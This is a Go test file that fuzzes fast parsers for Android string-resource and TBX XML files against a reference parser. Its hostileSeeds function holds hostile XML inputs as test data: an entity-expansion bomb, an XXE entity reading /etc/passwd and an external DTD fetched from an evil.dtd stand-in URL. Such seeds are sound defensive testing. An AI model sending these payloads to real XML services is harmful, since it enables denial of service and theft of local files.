package formats

import (
	"encoding/xml"
	"errors"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/gitlate/gitlate/internal/testutil/corpora"
)

// The fast parsers are checked against the encoding/xml reference (xmlref_test.go):
// both must return the same units, or both fail. Messages may differ; the fast
// parser must return a *SyntaxError with a line.

func compareWithReference(t *testing.T, data []byte, got *File, err error, want *File, rerr error) {
	t.Helper()
	if err != nil {
		var se *SyntaxError
		if !errors.As(err, &se) || se.Line < 1 {
			t.Fatalf("error %v is not a *SyntaxError with a line", err)
		}
	}
	if (err != nil) != (rerr != nil) {
		if err == nil && referenceNameTableDifference(rerr) {
			return
		}
		t.Fatalf("fast parser error %v, reference error %v\ninput %q", err, rerr, clip(data))
	}
	if err != nil {
		return
	}
	if len(got.Warnings) != len(want.Warnings) {
		t.Fatalf("fast parser warns %v, reference %v\ninput %q", got.Warnings, want.Warnings, clip(data))
	}
	for i, w := range want.Warnings {
		if g := got.Warnings[i]; g.Line != w.Line || g.Kind != w.Kind {
			t.Fatalf("warning %d is %v (%v), reference line %d (%v)\ninput %q", i, g, g.Kind, w.Line, w.Kind, clip(data))
		}
	}
	if len(got.Units) == 0 && len(want.Units) == 0 {
		return
	}
	if !reflect.DeepEqual(got.Units, want.Units) {
		for i := 0; i < len(got.Units) && i < len(want.Units); i++ {
			if !reflect.DeepEqual(got.Units[i], want.Units[i]) {
				t.Fatalf("unit %d differs:\n fast %#v\n  ref %#v\ninput %q", i, got.Units[i], want.Units[i], clip(data))
			}
		}
		t.Fatalf("fast parser has %d units, reference %d\ninput %q", len(got.Units), len(want.Units), clip(data))
	}
}

// compareStream checks that androidFormat.Stream hands over exactly the units Parse
// returned (got, err), and fails the same way. Each streamed unit is copied at once:
// its strings live in buffers the next unit reuses, which is what this catches.
func compareStream(t *testing.T, data []byte, got *File, err error) {
	t.Helper()
	var streamed []Unit
	warnings, serr := androidFormat{}.Stream(data, func(u *Unit) {
		c := *u
		c.Key = strings.Clone(u.Key)
		c.Target = cloneStrings(u.Target)
		c.Categories = cloneStrings(u.Categories)
		c.Source = cloneStrings(u.Source)
		streamed = append(streamed, c)
	})
	if (err == nil) != (serr == nil) || err != nil && err.Error() != serr.Error() {
		t.Fatalf("Parse error %v, Stream error %v\ninput %q", err, serr, clip(data))
	}
	if err != nil {
		return
	}
	if len(streamed) != len(got.Units) {
		t.Fatalf("Stream gave %d units, Parse %d\ninput %q", len(streamed), len(got.Units), clip(data))
	}
	if !reflect.DeepEqual(warnings, got.Warnings) {
		t.Fatalf("Stream warned %v, Parse %v\ninput %q", warnings, got.Warnings, clip(data))
	}
	for i := range streamed {
		if !reflect.DeepEqual(streamed[i], got.Units[i]) {
			t.Fatalf("unit %d differs:\n stream %#v\n  parse %#v\ninput %q", i, streamed[i], got.Units[i], clip(data))
		}
	}
}

// cloneStrings copies a slice and its strings, keeping nil and empty apart.
func cloneStrings(in []string) []string {
	if in == nil {
		return nil
	}
	out := make([]string, len(in))
	for i, v := range in {
		out[i] = strings.Clone(v)
	}
	return out
}

// referenceNameTableDifference: encoding/xml checks names against the XML 1.0
// fourth-edition tables, libxml2 (and the fast parser) against the fifth edition's
// wider ranges, so the reference alone rejects some non-ASCII names.
func referenceNameTableDifference(rerr error) bool {
	if rerr == nil {
		return false
	}
	msg := rerr.Error()
	if strings.Contains(msg, "invalid XML name") {
		return true
	}
	// An entity whose name encoding/xml does not accept is reported as an invalid
	// entity even when libxml2 would tolerate it (undeclared, external subset).
	if _, after, ok := strings.Cut(msg, "invalid character entity &"); ok {
		name, _, _ := strings.Cut(after, ";")
		_, err := xml.NewDecoder(strings.NewReader("<" + name + "/>")).RawToken()
		return err != nil
	}
	return false
}

func clip(b []byte) []byte {
	if len(b) > 2000 {
		return b[:2000]
	}
	return b
}

// hostileSeeds are inputs built to hurt a parser.
func hostileSeeds() []string {
	laughs := `<!DOCTYPE resources [<!ENTITY a "lol">`
	prev := "a"
	for i := 0; i < 12; i++ {
		name := string(rune('b' + i))
		laughs += `<!ENTITY ` + name + ` "` + strings.Repeat("&"+prev+";", 10) + `">`
		prev = name
	}
	laughs += `]><resources><string name="x">&` + prev + `;</string></resources>`
	tbxLaughs := strings.Replace(strings.Replace(laughs, "resources", "martif", -1), `<string name="x">&`+prev+`;</string>`,
		`<termEntry><langSet><term>&`+prev+`;</term></langSet></termEntry>`, 1)
	return []string{
		laughs,
		tbxLaughs,
		`<!DOCTYPE resources [<!ENTITY a "&b;"><!ENTITY b "&a;">]><resources><string name="x">&a;</string></resources>`,
		`<!DOCTYPE resources [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><resources><string name="x">&xxe;</string></resources>`,
		`<!DOCTYPE resources [<!ENTITY % xxe SYSTEM "http://example.com/evil.dtd"> %xxe;]><resources/>`,
		`<!DOCTYPE resources PUBLIC "-//X//EN" "http://example.com/x.dtd"><resources><string name="x">&undeclared;</string></resources>`,
		`<?xml version="1.0" encoding="UTF-16"?><resources/>`,
		"<resources><string name=\"x\">\xff\xfe</string></resources>",
		"<resources><string name=\"x\">\xed\xa0\x80</string></resources>",
		"<resources><string name=\"x\">\x00</string></resources>",
		"<resources><string name=\"x\">\xef\xbf\xbe</string></resources>",
		`<resources><string name="x">` + strings.Repeat("<b>", 400) + strings.Repeat("</b>", 400) + `</string></resources>`,
		strings.Repeat("<resources>", 300) + strings.Repeat("</resources>", 300),
		`<resources><string name="x" a="` + strings.Repeat("v", 1<<12) + `">y</string></resources>`,
		`<resources><string name="x" ` + strings.Repeat(`a=""`, 100) + `>y</string></resources>`,
		`<resources><string name="x" ` + strings.Repeat(`a="" `, 100) + `>y</string></resources>`,
		`<resources><string name="x">` + strings.Repeat(`\u`, 1000) + `</string></resources>`,
		`<resources><string name="x">` + strings.Repeat(`  "  \n `, 1000) + `</string></resources>`,
		`<resources><string name="x"><b>` + strings.Repeat(`\\u12`, 50) + `</b></string></resources>`,
		`<resources><string name="x"><![CDATA[`,
		`<resources><string name="x"><!--`,
		`<resources><string name="x"><?pi`,
		`<!DOCTYPE resources [`,
		`<!DOCTYPE resources [<!ENTITY a "`,
		`<resources><string name="x">&#x`,
		`<resources><string name="x">&am`,
		`<resources><string name="`,
		`<resources><string name="x"`,
		`<`,
		"\xef\xbb\xbf",
	}
}

func addSeeds(f *testing.F, format string) {
	var docs []string
	docs = append(docs, hostileSeeds()...)
	docs = append(docs, androidSnippets...)
	docs = append(docs, tbxSnippets...)
	for _, k := range knownDifferences {
		docs = append(docs, k.doc)
	}
	for _, c := range encodingCases {
		docs = append(docs, c.doc)
	}
	files, _ := filepath.Glob(filepath.Join("testdata", "*", "*.tbx"))
	more, _ := filepath.Glob(filepath.Join("testdata", "android", "*", "*.xml"))
	files = append(files, more...)
	for _, c := range corpora.All {
		m, _ := c.Files()
		sort.Slice(m, func(i, j int) bool { return fileSize(m[i]) < fileSize(m[j]) })
		if len(m) > 3 {
			m = m[:3] // the smallest few: big seeds slow every fuzzing run
		}
		files = append(files, m...)
	}
	for _, p := range files {
		if data, err := os.ReadFile(p); err == nil {
			docs = append(docs, string(data))
		}
	}
	for _, d := range docs {
		f.Add([]byte(d))
		// truncated documents
		if len(d) > 10 {
			f.Add([]byte(d[:len(d)/2]))
			f.Add([]byte(d[:len(d)-1]))
		}
	}
}

func fileSize(p string) int64 {
	st, err := os.Stat(p)
	if err != nil {
		return 0
	}
	return st.Size()
}

func FuzzAresource(f *testing.F) {
	addSeeds(f, "aresource")
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := androidFormat{}.Parse(data)
		want, rerr := refAndroidParse(data)
		compareWithReference(t, data, got, err, want, rerr)
		compareStream(t, data, got, err)
	})
}

func FuzzTBX(f *testing.F) {
	addSeeds(f, "tbx")
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := tbxFormat{}.Parse(data)
		want, rerr := refTBXParse(data)
		compareWithReference(t, data, got, err, want, rerr)
	})
}

// TestReferenceAgrees runs the differential check on every corpus file, the
// snippets and generated documents, so a plain `go test` covers it too.
func TestReferenceAgrees(t *testing.T) {
	type doc struct {
		name string
		data []byte
	}
	var android, tbx []doc
	for i, s := range androidSnippets {
		android = append(android, doc{"snippet " + strconv.Itoa(i), []byte(s)})
	}
	for i, s := range hostileSeeds() {
		android = append(android, doc{"hostile " + strconv.Itoa(i), []byte(s)})
		tbx = append(tbx, doc{"hostile " + strconv.Itoa(i), []byte(s)})
	}
	for i, s := range tbxSnippets {
		tbx = append(tbx, doc{"tbx snippet " + strconv.Itoa(i), []byte(s)})
	}
	rng := rand.New(rand.NewPCG(3, 4))
	for i := 0; i < 500; i++ {
		android = append(android, doc{"generated " + strconv.Itoa(i), []byte(randomAndroidDoc(rng))})
		tbx = append(tbx, doc{"generated " + strconv.Itoa(i), []byte(randomTBXDoc(rng))})
	}
	a, tb := corpusFiles(t)
	for _, p := range a {
		data, _ := os.ReadFile(p)
		android = append(android, doc{p, data})
	}
	for _, p := range tb {
		data, _ := os.ReadFile(p)
		tbx = append(tbx, doc{p, data})
	}
	parsed, units := 0, 0
	for _, d := range android {
		t.Run(d.name, func(t *testing.T) {
			got, err := androidFormat{}.Parse(d.data)
			want, rerr := refAndroidParse(d.data)
			compareWithReference(t, d.data, got, err, want, rerr)
			compareStream(t, d.data, got, err)
			if err == nil {
				parsed++
				units += len(got.Units)
			}
		})
	}
	for _, d := range tbx {
		t.Run(d.name, func(t *testing.T) {
			got, err := tbxFormat{}.Parse(d.data)
			want, rerr := refTBXParse(d.data)
			compareWithReference(t, d.data, got, err, want, rerr)
			if err == nil {
				parsed++
				units += len(got.Units)
			}
		})
	}
	t.Logf("%d documents, %d parsed, %d units identical", len(android)+len(tbx), parsed, units)
}

// FuzzAresourceContent fuzzes the content of one <string> (and of a plural item)
// inside a valid document, where the value rules (unescaping, markup
// serialization, namespaces) live and random whole documents rarely reach.
func FuzzAresourceContent(f *testing.F) {
	for _, s := range []string{
		`Hello`, `  "a  b"  \n\t\'`, `a <b>c</b> <x:g id="1">%s</x:g>`, `<![CDATA[ "x" ]]>`, `&lt;&#10;&amp;`,
		`<!-- c --><?p d?>`, `<b xmlns:q="v" q:a="1"><q:i/></b>`, `\u0041\u12`, `&e;`, `<i></i><u/>`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, content string) {
		doc := []byte(`<!DOCTYPE resources [<!ENTITY e "<b>E</b>">]>` + "\n" +
			`<resources xmlns:x="urn:x" xmlns:tools="urn:tools"><string name="k" tools:ignore="x">` + content +
			`</string><plurals name="p"><item quantity="one">` + content + `</item></plurals></resources>`)
		got, err := androidFormat{}.Parse(doc)
		want, rerr := refAndroidParse(doc)
		compareWithReference(t, doc, got, err, want, rerr)
		compareStream(t, doc, got, err)
	})
}
